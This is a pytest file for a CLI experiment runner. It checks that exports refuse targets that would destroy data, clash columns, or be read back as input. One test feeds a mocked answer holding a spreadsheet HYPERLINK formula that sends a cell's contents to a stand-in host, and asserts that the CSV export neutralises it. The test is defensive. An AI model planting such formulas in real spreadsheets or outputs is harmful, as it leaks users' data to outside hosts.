"""``runner run --export`` refuses, before anything is sent, a target that could destroy data or
a column clash (issue 21, through the experiment's checks)."""

from __future__ import annotations

import hashlib
from pathlib import Path

import polars as pl
from click.testing import Result

from runner.simulator import SimulatorServer
from tests.support import cli, write_rows

ROWS = 12


def dataset(tmp_path: Path, **extra: list[str]) -> Path:
    return write_rows(tmp_path / "data.csv", ROWS, column="text", text="row", **extra)


def run(url: str, data: Path, out: Path, *extra: str) -> Result:
    args = ["run", str(data), "-d", "support-reply", "-v", "baseline", "-v", "candidate",
            "--base-url", url, "--out", str(out), *extra]  # fmt: skip
    return cli(*args)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_the_dataset_itself_is_refused_as_export_target(
    tmp_path: Path, sim: SimulatorServer
) -> None:
    data = dataset(tmp_path)
    before = digest(data)
    result = run(sim.base_url, data, tmp_path / "out", "--export", str(data))
    assert result.exit_code == 2, result.output
    assert digest(data) == before and sim.stats.requests == 0
    assert not (tmp_path / "out").exists()


def test_a_target_inside_out_is_refused(tmp_path: Path, sim: SimulatorServer) -> None:
    data, out = dataset(tmp_path), tmp_path / "out"
    result = run(sim.base_url, data, out, "--export", str(out / "results.parquet"))
    assert result.exit_code == 2, result.output
    assert sim.stats.requests == 0 and not out.exists()


def test_an_existing_target_needs_overwrite(tmp_path: Path, sim: SimulatorServer) -> None:
    data, target = dataset(tmp_path), tmp_path / "backfill.csv"
    target.write_text("mine\n")
    refused = run(sim.base_url, data, tmp_path / "out", "--export", str(target))
    assert refused.exit_code == 2 and "--overwrite" in refused.output, refused.output
    assert target.read_text() == "mine\n" and sim.stats.requests == 0
    done = run(sim.base_url, data, tmp_path / "out2", "--export", str(target), "--overwrite")
    assert done.exit_code == 0, done.output
    assert pl.read_csv(target).height == ROWS


def test_a_column_clash_is_refused_before_the_first_call_naming_export_prefix(
    tmp_path: Path, sim: SimulatorServer
) -> None:
    data = dataset(tmp_path, output_baseline=["old"] * ROWS)
    target = tmp_path / "backfill.parquet"
    refused = run(sim.base_url, data, tmp_path / "out", "--export", str(target))
    assert refused.exit_code == 2, refused.output
    assert "output_baseline" in refused.output and "--export-prefix" in refused.output
    assert sim.stats.requests == 0
    done = run(sim.base_url, data, tmp_path / "out", "--export", str(target),
               "--export-prefix", "new_")  # fmt: skip
    assert done.exit_code == 0, done.output
    exported = pl.read_parquet(target)
    assert exported["output_baseline"].to_list() == ["old"] * ROWS
    assert "new_output_baseline" in exported.columns


def test_a_formula_in_an_answer_is_defused_in_a_csv_export(tmp_path: Path) -> None:
    """The simulator echoes nothing we choose, so the answer comes from a scripted API."""
    import httpx

    from runner.config import RunConfig
    from runner.experiment import Experiment, ExportPlan, run_experiment

    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json={"response": '=HYPERLINK("http://x.test/"&A1)'})

    data, target = dataset(tmp_path), tmp_path / "backfill.csv"
    config = RunConfig(dataset=(str(data),), out_dir=tmp_path / "out", deployment="d",
                       variants=("v",), base_url="http://127.0.0.1:9/v1")  # fmt: skip
    result = run_experiment(
        Experiment(config, export=ExportPlan(to=target)),
        api_key="fhk_test",
        transport=httpx.MockTransport(answer),
    )
    assert result.exit_code == 0, result.error
    import csv

    with target.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows and all(row["output"].startswith("'=HYPERLINK") for row in rows)


def test_a_target_the_datasets_folder_or_glob_would_read_is_refused(
    tmp_path: Path, sim: SimulatorServer
) -> None:
    """Written there, the export would be read as data by the next resume or export (and by
    every later run over the folder)."""
    folder = tmp_path / "pq"
    folder.mkdir()
    dataset(folder)
    for spec, target in [
        (folder, folder / "with_outputs.csv"),
        (folder, folder / "sub" / "parts"),
        (folder / "*.csv", folder / "with_outputs.csv"),
    ]:
        out = tmp_path / f"out-{target.name}"
        refused = run(sim.base_url, spec, out, "--export", str(target))
        assert refused.exit_code == 2, refused.output
        assert f"the dataset {spec} would read it as data" in refused.output
        assert not target.exists() and not out.exists()
    assert sim.stats.requests == 0
    beside = run(sim.base_url, folder, tmp_path / "out", "--export", str(folder / "_out.csv"))
    assert beside.exit_code == 0, beside.output  # a _ entry is not read as data


def test_runner_export_refuses_a_target_inside_the_dataset_folder(
    tmp_path: Path, sim: SimulatorServer
) -> None:
    folder, out = tmp_path / "pq", tmp_path / "out"
    folder.mkdir()
    dataset(folder)
    assert run(sim.base_url, folder, out).exit_code == 0
    before = {p.name for p in folder.iterdir()}
    refused = cli("export", str(out), "--to", str(folder / "x.parquet"))
    assert refused.exit_code == 2 and "would read it as data" in refused.output, refused.output
    assert {p.name for p in folder.iterdir()} == before
